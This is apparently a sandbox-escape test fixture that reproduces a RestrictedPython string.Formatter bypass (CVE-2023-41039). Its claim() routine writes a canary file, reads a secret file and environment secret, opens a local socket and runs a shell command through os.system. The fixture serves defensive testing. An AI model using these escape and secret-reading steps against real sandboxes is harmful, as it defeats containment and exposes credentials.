"""string.Formatter().get_field walks attribute paths without any guard.

Source: RestrictedPython advisory CVE-2023-41039: string.Formatter and its
get_field/vformat methods were the second way in besides str.format.
Tries: get the list of loaded classes from a field path, pick the one whose
initialiser's globals hold sys, then claim the canary and the secrets.
"""

# escape-test: {"stage": "gate", "kind": ["raised"]}

import string


def rp_string_formatter() -> dict:
    formatter = string.Formatter()
    path = "0." + "_" * 2 + "class" + "_" * 2
    found, unused = formatter.get_field(path, [()], {})
    return {"found": str(found)}


def claim(sys_module):
    """What a tool holding the real sys module would do with it."""
    modules = sys_module.modules
    marker = "TOOLKILN-" + "ESCAPE-" + "REACHED"
    taken = {"marker": marker}
    try:
        handle = modules["builtins"].open("{{CANARY}}", "w")
        handle.write(marker)
        handle.close()
    except Exception as exc:
        taken["write"] = str(exc)
    try:
        taken["file"] = modules["builtins"].open("{{SECRET_FILE}}").read()
    except Exception as exc:
        taken["file"] = str(exc)
    try:
        taken["env"] = modules["os"].environ.get("TOOLKILN_CANARY_SECRET")
    except Exception as exc:
        taken["env"] = str(exc)
    try:
        network = modules["builtins"].eval("__import__('socket')")
        network.create_connection(("127.0.0.1", {{PORT}}), 1).close()
    except Exception as exc:
        taken["net"] = str(exc)
    try:
        modules["os"].system("echo escaped > {{CANARY}}")
    except Exception as exc:
        taken["exec"] = str(exc)
    print(marker)
    return taken


def claim_namespace(namespace):
    """From a real globals dict to the real sys module."""
    if "sys" in namespace:
        return claim(namespace["sys"])
    loader = namespace["__builtins__"]
    if isinstance(loader, dict):
        return claim(loader["__import__"]("sys"))
    return claim(loader.eval("__import__('sys')"))
